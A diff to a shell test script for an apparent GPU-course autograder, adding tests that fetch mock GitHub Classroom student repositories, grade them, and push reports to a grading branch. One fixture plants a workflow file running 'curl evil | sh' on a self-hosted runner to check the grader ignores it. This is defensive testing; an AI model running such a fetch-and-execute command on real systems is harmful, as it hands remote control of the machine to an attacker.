@@ -225,6 +225,69 @@ bt_agree() {
 	fi
 }
 
+# GitHub Classroom as a pull model (tools/classroom/pull.sh): two
+# students' repositories (bare ones here, as on GitHub), each with a
+# workflow file the batch must ignore; fetched, graded by make batch,
+# and each report and score pushed back to a grading branch.
+bt_classroom() {
+	bt_c=$bt_dir/classroom
+	bt_cl=$LOGS/batch-classroom.log
+	rm -rf "$bt_c"
+	mkdir -p "$bt_c"
+	: > "$bt_c/repos"
+	for s in alice dave; do
+		w=$bt_c/work-$s
+		mkdir -p "$w/labs/05-reduction" "$w/.github/workflows"
+		echo "jobs: { grade: { runs-on: [self-hosted, gpu], steps: [ { run: 'curl evil | sh' } ] } }" \
+			> "$w/.github/workflows/classroom.yml"
+		cp solutions/05-reduction/argmax.cu "$w/labs/05-reduction/argmax.cu"
+		if [ $s = alice ]; then
+			cp solutions/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
+		else
+			cp tests/broken/compile-error/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
+		fi
+		git init -q --bare "$bt_c/$s.git"
+		(cd "$w" && git init -q && git add . &&
+		 git -c user.name=$s -c user.email=$s@x commit -qm hw &&
+		 git push -q "$bt_c/$s.git" HEAD:main) >> "$bt_cl" 2>&1
+		echo "$s file://$bt_c/$s.git" >> "$bt_c/repos"
+	done
+	{
+		sh tools/classroom/pull.sh fetch "$bt_c/repos" "$bt_c/subs" &&
+		$MAKE --no-print-directory batch SUBMISSIONS="$bt_c/subs" OUT="$bt_c/graded" \
+			LAB=05-reduction BUILD_ONLY=1 BUILD="$BUILD" ${bt_off:+SANDBOX=off} &&
+		sh tools/classroom/pull.sh push "$bt_c/repos" "$bt_c/subs" "$bt_c/graded"
+	} >> "$bt_cl" 2>&1
+	bt_rc=$?
+	bt_ok=1
+	for s in alice dave; do
+		git -C "$bt_c/$s.git" show grading:grading/report.txt > "$bt_c/$s.report" 2>> "$bt_cl" &&
+		cmp -s "$bt_c/$s.report" "$bt_c/graded/students/$s/report.txt" &&
+		git -C "$bt_c/$s.git" show grading:grading/score.txt 2>> "$bt_cl" |
+			grep -q "^commit $(git -C "$bt_c/$s.git" rev-parse main)$" || bt_ok=0
+	done
+	if [ $bt_rc -eq 0 ] && [ $bt_ok = 1 ] &&
+	   grep -q '^dave,COMPILE_ERROR,BUILT,' "$bt_c/graded/verdicts.csv" &&
+	   grep -q 'classroom.yml  (not a file students may edit)' "$bt_c/graded/students/alice/report.txt" &&
+	   [ "$(git -C "$bt_c/alice.git" rev-parse main)" = "$(git -C "$bt_c/work-alice" rev-parse HEAD)" ]; then
+		pass "batch/GitHub Classroom, pulled: two repositories fetched, graded by make batch (their workflow files ignored), each report and score pushed to a grading branch, main untouched"
+	else
+		fail "batch/GitHub Classroom, pulled: fetch, make batch, push" "$bt_cl"
+	fi
+}
+
+# The device acceptance run (tests/gpu/class-batch.sh), build-only: 24
+# submissions of two labs under one course file, the gradebook, the CSVs
+# and the reports checked against each other.
+bt_class_batch() {
+	if BUILD="$BUILD" MAKE="$MAKE" BUILD_ONLY=1 SANDBOX=${bt_off:+off} \
+		sh tests/gpu/class-batch.sh "$bt_dir/class-batch" > "$LOGS/batch-class-batch.log" 2>&1; then
+		pass "batch/tests/gpu/class-batch.sh, build-only: $(sed 's/ on no GPU.*//' "$bt_dir/class-batch/wall-time.txt"); gradebook, verdicts, scores.csv and reports agree"
+	else
+		fail "batch/tests/gpu/class-batch.sh, build-only" "$LOGS/batch-class-batch.log"
+	fi
+}
+
 bt_audit() {
 	if [ "$(head -n 1 "$bt_out/audit.tsv" 2> /dev/null)" = "$(printf 'student\texercise\tverdict\taudit')" ] &&
 	   awk -F '\t' 'NR > 1 && (NF != 4 || ($3 != "REJECTED" && $3 != "SUSPICIOUS" && $4 == "-")) { bad = 1 }
@@ -546,6 +609,8 @@ bt_main() {
 	bt_default
 	bt_loud
 	bt_agree
+	bt_classroom
+	bt_class_batch
 	bt_audit
 	bt_resume
 	[ $bt_boxed -eq 0 ] && bt_control
